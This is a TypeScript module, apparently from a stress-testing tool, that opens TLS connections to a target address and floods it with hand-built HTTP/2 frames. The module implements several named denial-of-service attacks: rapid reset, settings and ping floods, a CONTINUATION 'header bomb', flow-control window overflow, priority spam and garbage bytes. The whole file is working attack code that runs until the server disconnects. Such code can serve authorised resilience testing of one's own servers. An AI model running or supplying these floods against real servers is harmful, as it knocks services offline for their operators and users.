import type { TLSSocket } from 'node:tls'
import { openTls } from './crowd.ts'
import type { Address } from './pipeline.ts'

const HELLO = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))])

/** Attacks on HTTP/2 below requests, by name. */
const ATTACKS: Readonly<Record<string, (at: number) => Buffer>> = {
  'rapid reset': (at) =>
    Buffer.concat([frame(1, 5, at * 2 + 1, HEAD), frame(3, 0, at * 2 + 1, Buffer.from([0, 0, 0, 8]))]),
  'settings flood': () => frame(4, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])),
  'ping flood': () => frame(6, 0, 0, Buffer.alloc(8)),
  'header bomb': (at) =>
    Buffer.concat([
      frame(1, 0, at * 2 + 1, HEAD),
      ...Array.from({ length: 8 }, () => frame(9, 0, at * 2 + 1, Buffer.alloc(16_000, 0xbe))),
    ]),
  'empty data': (at) => (at === 0 ? frame(1, 4, 1, HEAD) : frame(0, 0, 1, Buffer.alloc(0))),
  'window overflow': () => frame(8, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff])),
  priority: (at) => frame(2, 0, at * 2 + 1, Buffer.from([0, 0, 0, 0, 255])),
  garbage: (at) => Buffer.from(Array.from({ length: 64 }, (_, of) => (at * 7 + of * 13) % 256)),
}

/** `:method GET`, `:scheme https`, `:path /`, and a host (HPACK, RFC 7541). */
const HEAD = Buffer.from([0x82, 0x87, 0x84, 0x41, 0x01, 0x78])

/** Sends `count` frames of every attack, each on a connection of its own; ends when the server hangs up. */
export async function floodFrames(address: Address, count: number): Promise<void> {
  for (const attack of Object.values(ATTACKS)) {
    const socket = await openTls(address, 'h2')
    socket.write(HELLO)
    socket.resume()
    await flood(socket, attack, count)
    socket.destroy()
  }
}

async function flood(socket: TLSSocket, attack: (at: number) => Buffer, count: number): Promise<void> {
  for (let at = 0; at < count && !socket.destroyed; at += 100) {
    const burst = Buffer.concat(Array.from({ length: 100 }, (_, of) => attack(at + of)))
    if (!socket.write(burst)) await new Promise((resolve) => setTimeout(resolve, 2))
    if (at % 1000 === 0) await new Promise((resolve) => setImmediate(resolve))
  }
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
